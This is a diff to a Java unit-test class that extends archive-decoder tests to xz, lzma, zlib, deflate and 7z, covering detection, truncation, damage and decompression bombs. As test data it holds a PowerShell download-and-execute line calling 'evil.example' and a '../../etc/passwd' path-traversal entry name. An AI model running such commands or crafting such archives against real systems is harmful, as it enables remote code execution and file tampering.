@@ -15,6 +15,7 @@ import dev.spoor.api.data.Batch;
 import dev.spoor.api.data.Schema;
 import dev.spoor.api.data.Sink;
 import dev.spoor.tck.MemoryCall;
+import dev.spoor.tck.MemoryContext;
 import dev.spoor.tck.MemoryPiece;
 import dev.spoor.tck.MemoryPieces;
 import java.io.ByteArrayOutputStream;
@@ -30,14 +31,25 @@ import java.util.HexFormat;
 import java.util.List;
 import java.util.Random;
 import java.util.zip.GZIPOutputStream;
+import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
+import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
 import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
 import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
 import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
 import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
 import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
+import org.apache.commons.compress.compressors.deflate.DeflateCompressorOutputStream;
+import org.apache.commons.compress.compressors.deflate.DeflateParameters;
+import org.apache.commons.compress.compressors.lzma.LZMACompressorOutputStream;
+import org.apache.commons.compress.compressors.xz.XZCompressorOutputStream;
+import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 
 class ArchiveTest {
+    @TempDir
+    Path temp;
+
     private static final byte[] TEXT = text(200_000);
 
     private static byte[] text(int length) {
@@ -49,10 +61,10 @@ class ArchiveTest {
         return text;
     }
 
-    private static MemoryPieces decode(Decoder decoder, String name, byte[] bytes, MemoryCall call)
+    private MemoryPieces decode(Decoder decoder, String name, byte[] bytes, MemoryCall call)
             throws ProviderException, IOException {
         MemoryPieces pieces = new MemoryPieces();
-        decoder.open(null).decode(new MemoryPiece(name, Piece.BYTES, bytes), pieces, call);
+        decoder.open(new MemoryContext(temp)).decode(new MemoryPiece(name, Piece.BYTES, bytes), pieces, call);
         return pieces;
     }
 
@@ -102,10 +114,109 @@ class ArchiveTest {
         return out.toByteArray();
     }
 
+    private static byte[] xz(byte[] bytes) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (OutputStream xz = new XZCompressorOutputStream(out)) {
+            xz.write(bytes);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] lzma() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (OutputStream lzma = new LZMACompressorOutputStream(out)) {
+            lzma.write(TEXT);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] deflated(byte[] bytes, boolean zlib) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        DeflateParameters parameters = new DeflateParameters();
+        parameters.setWithZlibHeader(zlib);
+        try (OutputStream deflate = new DeflateCompressorOutputStream(out, parameters)) {
+            deflate.write(bytes);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] sevenZip(String... names) throws IOException {
+        SeekableInMemoryByteChannel channel = new SeekableInMemoryByteChannel();
+        try (SevenZOutputFile out = new SevenZOutputFile(channel)) {
+            for (String name : names) {
+                SevenZArchiveEntry entry = new SevenZArchiveEntry();
+                entry.setName(name);
+                out.putArchiveEntry(entry);
+                out.write(TEXT);
+                out.closeArchiveEntry();
+            }
+        }
+        return Arrays.copyOf(channel.array(), (int) channel.size());
+    }
+
+    @Test
+    void sevenZipGivesItsFilesAndWhatIsCutOffIsSaid() throws Exception {
+        MemoryCall call = new MemoryCall();
+        byte[] archive = sevenZip("b/\u00fc.txt", "../../etc/passwd", "a");
+        MemoryPieces pieces = decode(new SevenZip(), "f.7z", archive, call);
+        assertEquals(
+                List.of("b/\u00fc.txt", "../../etc/passwd", "a"),
+                pieces.found().stream().map(MemoryPieces.Found::name).toList());
+        pieces.found().forEach(found -> assertArrayEquals(TEXT, found.bytes()));
+        assertTrue(call.problems().isEmpty(), call.problems().toString());
+        ProviderException e = assertThrows(
+                ProviderException.class,
+                () -> decode(new SevenZip(), "f.7z", Arrays.copyOf(archive, archive.length / 2), call));
+        assertTrue(e.getMessage().contains("damaged or cut off"), e.getMessage());
+        try (var left = Files.list(temp)) {
+            assertEquals(List.of(), left.toList());
+        }
+    }
+
+    @Test
+    void xzGivesAllStreams() throws Exception {
+        ByteArrayOutputStream two = new ByteArrayOutputStream();
+        two.write(xz("one ".getBytes(StandardCharsets.UTF_8)));
+        two.write(xz("two".getBytes(StandardCharsets.UTF_8)));
+        MemoryPieces pieces = decode(new Xz(), "a.log.xz", two.toByteArray(), new MemoryCall());
+        assertEquals("one two", pieces.found().get(0).text());
+        assertEquals("a.log", pieces.found().get(0).name());
+    }
+
+    /** Bare deflate has no mark: short scripts are known by what they inflate to, noise is not. */
+    @Test
+    void deflateIsKnownByWhatItInflatesTo() throws Exception {
+        byte[] script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
+                .getBytes(StandardCharsets.UTF_8);
+        assertEquals(30, probe(new Deflate(), deflated(script, false)));
+        assertEquals(60, probe(new Zlib(), deflated(script, true)));
+        assertEquals(
+                30,
+                probe(
+                        new Deflate(),
+                        deflated(
+                                new String(script, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE),
+                                false)));
+        Random random = new Random(3);
+        int wrong = 0;
+        for (int i = 0; i < 20_000; i++) {
+            byte[] noise = new byte[8 + random.nextInt(200)];
+            random.nextBytes(noise);
+            wrong += probe(new Deflate(), noise) + probe(new Zlib(), noise) > 0 ? 1 : 0;
+            for (int k = 0; k < noise.length; k++) {
+                noise[k] = (byte) (' ' + (noise[k] & 0x3f));
+            }
+            wrong += probe(new Deflate(), noise) > 0 ? 1 : 0;
+        }
+        assertTrue(wrong <= 4, wrong + " of 60,000 noises taken for deflate");
+    }
+
     @Test
     void eachFormIsRecognisedByItsOwnDecoderOnly() throws IOException {
-        List<Decoder> decoders = List.of(new Gzip(), new Bzip2(), new Zip(), new Tar());
-        List<byte[]> forms = List.of(gzip(TEXT), bzip2(), zip("a"), tar("a"), TEXT);
+        List<Decoder> decoders = List.of(
+                new Gzip(), new Bzip2(), new Zip(), new Tar(), new Xz(), new Lzma(), new Zlib(), new SevenZip());
+        List<byte[]> forms = List.of(
+                gzip(TEXT), bzip2(), zip("a"), tar("a"), xz(TEXT), lzma(), deflated(TEXT, true), sevenZip("a"), TEXT);
         for (int f = 0; f < forms.size(); f++) {
             for (int d = 0; d < decoders.size(); d++) {
                 byte[] form = forms.get(f);
@@ -115,7 +226,7 @@ class ArchiveTest {
                             : 0;
                     assertTrue(f == d || score == 0, decoders.get(d).descriptor() + " of form " + f);
                     assertTrue(
-                            f != d || length < 512 || score >= 90,
+                            f != d || length < 512 || score >= 60,
                             decoders.get(d).descriptor() + " at " + length);
                 }
             }
@@ -123,7 +234,7 @@ class ArchiveTest {
     }
 
     private static int probe(Decoder decoder, byte[] bytes) {
-        try (Decoder.Session session = decoder.open(null)) {
+        try (Decoder.Session session = decoder.open(new MemoryContext(Path.of("unused")))) {
             return session.probe(bytes, 0, bytes.length);
         } catch (ProviderException e) {
             throw new AssertionError(e);
@@ -148,11 +259,18 @@ class ArchiveTest {
     @Test
     void aCutOffFileGivesWhatItHasAndAProblem() throws Exception {
         for (Object[] form : new Object[][] {
-            {new Gzip(), gzip(TEXT)}, {new Bzip2(), bzip2()}, {new Zip(), zip("a")}, {new Tar(), tar("a")}
+            {new Gzip(), gzip(TEXT)},
+            {new Bzip2(), bzip2()},
+            {new Zip(), zip("a")},
+            {new Tar(), tar("a")},
+            {new Xz(), xz(TEXT)},
+            {new Lzma(), lzma()},
+            {new Zlib(), deflated(TEXT, true)},
+            {new Deflate(), deflated(TEXT, false)}
         }) {
             byte[] bytes = (byte[]) form[1];
             MemoryCall call = new MemoryCall();
-            MemoryPieces pieces = decode((Decoder) form[0], "f", Arrays.copyOf(bytes, bytes.length / 2), call);
+            MemoryPieces pieces = decode((Decoder) form[0], "f", Arrays.copyOf(bytes, bytes.length / 4 * 3), call);
             assertEquals(1, call.problems().size(), form[0].getClass().getSimpleName());
             byte[] kept = pieces.found().get(0).bytes();
             assertTrue(kept.length < TEXT.length);
@@ -215,10 +333,18 @@ class ArchiveTest {
     void damageNeverEscapesOtherwise() throws IOException {
         Random random = new Random(2);
         Object[][] forms = {
-            {new Gzip(), gzip(TEXT)}, {new Bzip2(), bzip2()}, {new Zip(), zip("a", "b")}, {new Tar(), tar("a", "b")}
+            {new Gzip(), gzip(TEXT)},
+            {new Bzip2(), bzip2()},
+            {new Zip(), zip("a", "b")},
+            {new Tar(), tar("a", "b")},
+            {new Xz(), xz(TEXT)},
+            {new Lzma(), lzma()},
+            {new Zlib(), deflated(TEXT, true)},
+            {new Deflate(), deflated(TEXT, false)},
+            {new SevenZip(), sevenZip("a", "b")}
         };
-        for (int i = 0; i < 400; i++) {
-            Object[] form = forms[i % 4];
+        for (int i = 0; i < 100 * forms.length; i++) {
+            Object[] form = forms[i % forms.length];
             byte[] bytes = ((byte[]) form[1]).clone();
             for (int k = random.nextInt(20); k >= 0; k--) {
                 bytes[random.nextInt(random.nextBoolean() ? bytes.length : 600)] = (byte) random.nextInt();
@@ -233,8 +359,14 @@ class ArchiveTest {
 
     /** The host ends a bomb by failing the write: that must end the decoding at once, not be taken for damage. */
     @Test
-    void theHostsLimitEndsABomb() {
-        byte[] bomb = gzip(new byte[64 << 20]);
+    void theHostsLimitEndsABomb() throws IOException {
+        byte[] zeros = new byte[64 << 20];
+        theHostsLimitEnds(new Gzip(), gzip(zeros));
+        theHostsLimitEnds(new Xz(), xz(zeros));
+        theHostsLimitEnds(new Zlib(), deflated(zeros, true));
+    }
+
+    private void theHostsLimitEnds(Decoder decoder, byte[] bomb) {
         int[] written = {0};
         Pieces limited = new Pieces() {
             @Override
@@ -268,7 +400,8 @@ class ArchiveTest {
         MemoryCall call = new MemoryCall();
         IOException end = assertThrows(
                 IOException.class,
-                () -> new Gzip().open(null).decode(new MemoryPiece("bomb.gz", Piece.BYTES, bomb), limited, call));
+                () -> decoder.open(new MemoryContext(temp))
+                        .decode(new MemoryPiece("bomb.gz", Piece.BYTES, bomb), limited, call));
         assertEquals("the limit", end.getMessage());
         assertTrue(written[0] < 2 << 20);
         assertTrue(call.problems().isEmpty());
@@ -294,7 +427,7 @@ class ArchiveTest {
         }
     }
 
-    private static String md5(Decoder decoder, Path file) throws Exception {
+    private String md5(Decoder decoder, Path file) throws Exception {
         MemoryPieces pieces =
                 decode(decoder, file.getFileName().toString(), Files.readAllBytes(file), new MemoryCall());
         return HexFormat.of()
